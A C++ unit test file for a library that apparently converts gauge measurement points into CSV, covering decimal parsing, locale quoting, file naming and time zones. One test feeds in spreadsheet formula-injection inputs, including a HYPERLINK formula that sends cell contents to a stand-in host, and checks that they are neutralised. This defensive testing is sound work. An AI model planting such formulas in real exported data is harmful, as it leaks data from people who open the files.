#include <gtest/gtest.h>

#include <cstdlib>
#include <ctime>
#include <optional>
#include <string>

#include "pointsfile/csv_form.h"
#include "pointsfile/fields.h"
#include "pointsfile/press_time.h"
#include "pointsfile/row_sink.h"

namespace {

using pointsfile::Section;

TEST(FormOfName, TheExtensionChoosesWhateverItsCase) {
    EXPECT_EQ(pointsfile::formOfName("/data/Shift 3.xlsx"), pointsfile::Form::Workbook);
    EXPECT_EQ(pointsfile::formOfName("C:\\Points.CSV"), pointsfile::Form::Csv);
    for (const char* name : {"MemoryPoints.txt", "points", "x.xlsx.txt", "-", "a.xls", ".csvx"}) {
        EXPECT_EQ(pointsfile::formOfName(name), pointsfile::Form::Text) << name;
    }
}

TEST(DecimalPlaces, NumbersAsTheGaugeWroteThemAndEverythingElseText) {
    const struct {
        const char* field;
        std::optional<int> decimals;
    } rows[] = {
        {"12", 0},
        {"12.50", 2},
        {"-0.0182", 4},
        {"+7.125", 3},
        {"007", 0},
        {"123456789012345", 0},
        {"0.000000000000001", 15},
        {"", std::nullopt},
        {"-", std::nullopt},
        {"12.", std::nullopt},
        {".5", std::nullopt},
        {"1,5", std::nullopt},
        {"1e3", std::nullopt},
        {" 12", std::nullopt},
        {"12mm", std::nullopt},
        {"--1", std::nullopt},
        {"1234567890123456", std::nullopt},  // more digits than a spreadsheet's number keeps
        {"D5", std::nullopt},
    };
    for (const auto& row : rows) {
        EXPECT_EQ(pointsfile::decimalPlaces(row.field), row.decimals) << row.field;
    }
}

TEST(CsvRecord, SectionThenFieldsInTheLocalesStyle) {
    const pointsfile::CsvStyle point = pointsfile::csvStyleForDecimalMark('.');
    const pointsfile::CsvStyle comma = pointsfile::csvStyleForDecimalMark(',');
    const struct {
        Section section;
        std::string line;
        pointsfile::CsvStyle style;
        std::string record;
    } rows[] = {
        {Section::Memory, "1\t12.0182\tmm", point, "Memory,1,12.0182,mm"},
        {Section::Memory, "1\t12.0182\tmm", comma, "Memory;1;12,0182;mm"},
        {Section::Statistics, "MIN\t-1.50", comma, "Statistics;MIN;-1,50"},
        // Only numbers change their mark; text that holds a "." stays as received.
        {Section::Memory, "v1.2\t3.5", comma, "Memory;v1.2;3,5"},
        {Section::Memory, "a,b\t\"x\"\t1;2", point, "Memory,\"a,b\",\"\"\"x\"\"\",1;2"},
        {Section::Memory, "a,b\t1;2", comma, "Memory;a,b;\"1;2\""},
        {Section::Memory, "line\rend", point, "Memory,\"line\rend\""},
        {Section::Memory, "D5\t\t9", point, "Memory,D5,,9"},
        {Section::Memory, "\xB5m\t\xE9", point, "Memory,\xC2\xB5m,\xC3\xA9"},
    };
    for (const auto& row : rows) {
        EXPECT_EQ(pointsfile::csvRecord(row.section, row.line, row.style), row.record) << row.line;
    }
}

TEST(CsvField, TextThatASpreadsheetWouldRunIsMarkedAsTextNumbersStayNumbers) {
    const pointsfile::CsvStyle point = pointsfile::csvStyleForDecimalMark('.');
    const pointsfile::CsvStyle comma = pointsfile::csvStyleForDecimalMark(',');
    const struct {
        std::string field;
        pointsfile::CsvStyle style;
        std::string written;
    } rows[] = {
        {"=1+1", point, "'=1+1"},
        {"+A1", point, "'+A1"},
        {"-A1", comma, "'-A1"},
        {"@SUM(A1)", point, "'@SUM(A1)"},
        {"\tx", point, "'\tx"},
        {"\rx", comma, "\"'\rx\""},
        {"-0.50", comma, "-0,50"},
        {"+7", point, "+7"},
        {"-", point, "'-"},
        {"-1234567890123456", point, "'-1234567890123456"},  // too long for a number
        {"x=1", point, "x=1"},
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", point,
         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
        {"=1,5", point, "\"'=1,5\""},
        {"=1,5", comma, "'=1,5"},
        {"=1;5", comma, "\"'=1;5\""},
        {"@\xB5m", comma, "'@\xC2\xB5m"},
    };
    for (const auto& row : rows) {
        EXPECT_EQ(pointsfile::csvField(row.field, row.style), row.written) << row.field;
    }
}

TEST(PressTime, RecordAndNamesCarryTheLocalTime) {
    const pointsfile::LocalTime afternoon{2026, 12, 7, 14, 15, 3, 60};
    EXPECT_EQ(pointsfile::isoLocalTime(afternoon), "2026-12-07T14:15:03+01:00");
    EXPECT_EQ(pointsfile::isoLocalTime({2027, 1, 2, 3, 4, 5, -330}), "2027-01-02T03:04:05-05:30");
    EXPECT_EQ(pointsfile::withDateAndTime("MemoryPoints.txt", afternoon),
              "MemoryPoints_2026-12-07_1415.txt");
    EXPECT_EQ(pointsfile::withDateAndTime("points", afternoon), "points_2026-12-07_1415");
    EXPECT_EQ(pointsfile::expandDateAndTime("/d/{date}/gauge-{time}-{date}.csv", afternoon),
              "/d/2026-12-07/gauge-141503-2026-12-07.csv");

#ifdef _WIN32
    _putenv_s("TZ", "EST5");
    _tzset();
#else
    setenv("TZ", "EST5", 1);
    tzset();
#endif
    EXPECT_EQ(pointsfile::isoLocalTime(pointsfile::localTimeOf(86400 * 365)),
              "1970-12-31T19:00:00-05:00");
}

}  // namespace
